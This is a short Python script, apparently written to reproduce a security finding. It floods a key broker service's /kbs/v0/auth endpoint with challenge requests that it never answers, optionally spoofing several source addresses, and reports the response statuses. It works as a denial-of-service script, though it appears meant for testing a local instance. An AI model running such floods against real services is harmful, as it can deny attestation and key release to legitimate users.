#!/usr/bin/python3
"""Floods the key broker with challenges (issue 11, finding 2): COUNT `POST /kbs/v0/auth` requests on
one keep-alive TLS connection (a new one only if the server closes it), never answering any.

Usage: kbs_flood.py URL CA COUNT [--source ADDR]
Prints one JSON object: {"statuses": {"200": n, ...}, "connections": n, "seconds": s}.
"""
import argparse
import http.client
import json
import ssl
import sys
import time
import urllib.parse


def main():
    p = argparse.ArgumentParser()
    p.add_argument("url")
    p.add_argument("ca")
    p.add_argument("count", type=int)
    p.add_argument("--source", help="local address to send from (another loopback address is another source)")
    args = p.parse_args()
    u = urllib.parse.urlsplit(args.url)
    ctx = ssl.create_default_context(cafile=args.ca)
    body = json.dumps({"version": "0.1.0", "tee": "tpm", "extra-params": {}})
    headers = {"Content-Type": "application/json"}
    statuses, connections, conn = {}, 0, None
    start = time.monotonic()
    for _ in range(args.count):
        for attempt in range(3):
            if conn is None:
                conn = http.client.HTTPSConnection(u.hostname, u.port, context=ctx, timeout=10,
                                                   source_address=(args.source, 0) if args.source else None)
                connections += 1
            try:
                conn.request("POST", "/kbs/v0/auth", body=body, headers=headers)
                resp = conn.getresponse()
                resp.read()
                statuses[str(resp.status)] = statuses.get(str(resp.status), 0) + 1
                if resp.getheader("connection", "").lower() == "close":
                    conn.close()
                    conn = None
                break
            except (http.client.HTTPException, OSError):
                conn.close()
                conn = None
        else:
            statuses["error"] = statuses.get("error", 0) + 1
    print(json.dumps({"statuses": statuses, "connections": connections,
                      "seconds": round(time.monotonic() - start, 2)}))


if __name__ == "__main__":
    sys.exit(main())
